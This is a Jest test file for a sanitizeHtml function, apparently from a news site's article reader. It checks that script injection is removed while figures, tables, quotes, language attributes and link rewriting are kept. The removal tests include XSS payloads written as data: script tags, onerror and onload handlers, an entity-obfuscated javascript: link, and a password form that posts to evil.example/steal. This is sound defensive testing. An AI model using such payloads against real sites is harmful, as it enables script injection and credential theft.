import { executableParts } from '../../test/inert-markup';
import { sanitizeHtml } from './sanitize-html';

function parse(html: string): HTMLElement {
  const container = document.createElement('div');
  // jsdom has no Trusted Types: the result is the string.
  container.innerHTML = sanitizeHtml(html) as string;
  return container;
}

describe('sanitizeHtml', () => {
  it.each([
    ['a script element', '<p>ok</p><script>window.__pwned = 1</script>'],
    ['an event handler', '<img src="x" onerror="window.__pwned = 1">'],
    ['a javascript: link', '<a href="javascript:window.__pwned=1">click</a>'],
    ['an entity-encoded javascript: link', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
    ['an svg with a script', '<svg><script>window.__pwned = 1</script><circle onload="window.__pwned=1"/></svg>'],
    ['a form that posts elsewhere', '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'],
    ['an unknown iframe', '<iframe src="https://evil.example/frame"></iframe>'],
    ['an object embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['a style tag', '<style>body{display:none}</style><p style="position:fixed;inset:0">cover</p>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ])('removes %s', (_name, html) => {
    const result = parse(html);
    expect(executableParts(result)).toEqual([]);
    expect(result.querySelector('script, form, input, button, iframe, object, embed, style, meta')).toBeNull();
    expect(result.querySelector('[style]')).toBeNull();
  });

  it('keeps what an article needs: figures, captions, headings, lists, tables, quotes, lang and dir', () => {
    const html = `
      <h2>Heading</h2>
      <figure class="wp-block-image"><img src="/media/a-1024.jpg" alt="Thierry Breton" width="1024" height="576" srcset="/media/a-300.jpg 300w, /media/a-1024.jpg 1024w" sizes="100vw"><figcaption>Thierry Breton</figcaption></figure>
      <ul><li>one</li></ul><ol><li>two</li></ol>
      <table><thead><tr><th>Brand</th></tr></thead><tbody><tr><td>SeaMac</td></tr></tbody></table>
      <blockquote class="wp-block-quote"><p>Quoted</p></blockquote>
      <p>Met <span lang="ja">こうのたろう</span> and <span dir="rtl" lang="ar">مرحبا</span></p>`;
    const result = parse(html);
    expect(result.querySelector('h2')?.textContent).toBe('Heading');
    expect(result.querySelector('figure figcaption')?.textContent).toBe('Thierry Breton');
    const image = result.querySelector('img')!;
    expect(image.getAttribute('alt')).toBe('Thierry Breton');
    expect(image.getAttribute('srcset')).toContain('300w');
    expect(image.getAttribute('loading')).toBe('lazy');
    expect(result.querySelectorAll('ul li, ol li')).toHaveLength(2);
    expect(result.querySelector('td')?.textContent).toBe('SeaMac');
    expect(result.querySelector('blockquote p')?.textContent).toBe('Quoted');
    expect(result.querySelector('[lang="ja"]')?.textContent).toBe('こうのたろう');
    expect(result.querySelector('[dir="rtl"]')?.getAttribute('lang')).toBe('ar');
  });

  it('keeps links to the site inside the reader and opens other sites safely', () => {
    const result = parse(`
      <a href="/news/another-story">internal</a>
      <a href="${window.location.origin}/2023/07/05/dated-story/">permalink</a>
      <a href="${window.location.origin}/category/company-news/">category</a>
      <a href="https://example.com/elsewhere">external</a>
      <a href="#section">anchor</a>`);
    const links = [...result.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      '/news/another-story',
      '/news/dated-story',
      '/category/company-news',
      'https://example.com/elsewhere',
      '#section',
    ]);
    const external = links[3]!;
    expect(external.getAttribute('target')).toBe('_blank');
    expect(external.getAttribute('rel')).toBe('noopener noreferrer');
    expect(links[0]!.hasAttribute('target')).toBe(false);
  });

  it('keeps a known video embed, sandboxed', () => {
    const result = parse('<iframe src="https://www.youtube-nocookie.com/embed/abc" onload="window.__pwned=1"></iframe>');
    const frame = result.querySelector('iframe')!;
    expect(frame.getAttribute('sandbox')).toContain('allow-scripts');
    expect(frame.getAttribute('title')).toBe('Embedded video');
    expect(frame.hasAttribute('onload')).toBe(false);
  });
});
